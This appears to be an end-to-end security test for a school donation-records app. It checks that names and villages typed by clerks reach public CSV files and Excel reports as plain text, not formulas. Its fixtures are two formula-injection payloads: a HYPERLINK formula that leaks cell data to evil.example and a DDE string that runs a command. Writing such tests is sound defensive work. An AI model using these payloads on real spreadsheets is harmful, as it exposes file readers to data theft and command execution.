"""Security review of the console and the public pages (issue 17), against a real server
process on SQLite and on PostgreSQL: what a school's clerk types (a donor's name, a
village) must reach a spreadsheet as text, never as a formula — neither the public data
files (anyone downloads them) nor the console's XLSX reports (the province's officers open
them)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import requests
from openpyxl import load_workbook

from app.records import CoverageGap, Donation
from sync import client
from tests.e2e.conftest import OPERATOR

DONOR = '=HYPERLINK("http://evil.example/?"&A1,"Xem biên bản")'
VILLAGE = "+cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _console(url: str, name: str, password: str) -> requests.Session:
    s = requests.Session()
    form = s.get(url + "/console/sign-in", timeout=30)
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
    resp = s.post(url + "/console/sign-in", data={"csrf": csrf, "name": name, "password": password},
                  allow_redirects=False, timeout=30)
    assert resp.status_code == 303, resp.text
    return s


def test_texts_from_records_are_never_formulas_in_the_public_csv_nor_the_console_xlsx(server, devices):
    school = devices.school(name="Trường TH Bản Hồ")
    code = school.unit().code
    today = dt.date.today().isoformat()
    school.save(Donation(unit_id=school.unit_id, donor_name=DONOR, donor_kind="person", cash_vnd=1_000_000,
                         received_date=today), "gv")
    school.save(CoverageGap(unit_id=school.unit_id, village=VILLAGE, commune_code="03388"), "gv")
    assert client.sync(school).pending == 0

    # the public data file: anyone opens it in a spreadsheet
    resp = requests.get(f"{server.url}/cong-khai/truong/{code}/du-lieu.csv", timeout=30)
    assert resp.status_code == 200, resp.text[:300]
    cells = [c for row in csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))) for c in row]
    assert "'" + DONOR in cells and "'" + VILLAGE in cells  # still there, as text
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    as_json = requests.get(f"{server.url}/cong-khai/truong/{code}/du-lieu.json", timeout=30).json()
    assert as_json["donations"][0]["donor"] == DONOR  # the JSON holds the name as typed

    # the console's reports: the province's officer opens them in Excel
    s = _console(server.url, *OPERATOR)
    for kind in ("mobilisation", "coverage"):
        resp = s.get(f"{server.url}/console/bao-cao/tai", params={"kind": kind, "unit": code, "format": "xlsx",
                                                                  "from": today[:8] + "01", "to": today},
                     timeout=60)
        assert resp.status_code == 200, (kind, resp.text[:300])
        wb = load_workbook(io.BytesIO(resp.content))
        formulas = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows()
                    for c in row if c.data_type == "f"]
        assert not formulas, (kind, formulas)
        values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
        assert (DONOR if kind == "mobilisation" else VILLAGE) in values, kind  # kept as the text it is
